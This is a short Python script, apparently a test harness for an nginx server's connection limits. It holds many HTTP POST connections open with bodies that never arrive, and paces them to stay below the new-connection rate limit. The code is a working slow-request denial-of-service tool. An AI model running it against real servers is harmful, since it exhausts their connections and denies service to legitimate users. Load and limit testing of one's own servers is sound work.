"""Opens one connection after another, slowly, each with a request that never ends.

Runs on the attacker as `python3 -c`. The program stays below nginx's limit of new connections per second, so that
only the limit of simultaneous connections applies. Arguments: the address, the host's name, the number of connections.
Prints the status of each answer.
"""

import sys
import time
from socket import create_connection

EVERY_S = 0.12
"""All connections are opened within the five seconds that nginx waits (lingering_timeout)."""


def main(address: str, name: str, many: str) -> None:
    held = []
    for _ in range(int(many)):
        one = create_connection((address, 80), timeout=5)
        one.sendall(f"POST / HTTP/1.1\r\nHost: {name}\r\nContent-Length: 1000000\r\n\r\n".encode())
        print(one.recv(65536).split()[1].decode())
        held.append(one)
        time.sleep(EVERY_S)


main(*sys.argv[1:])
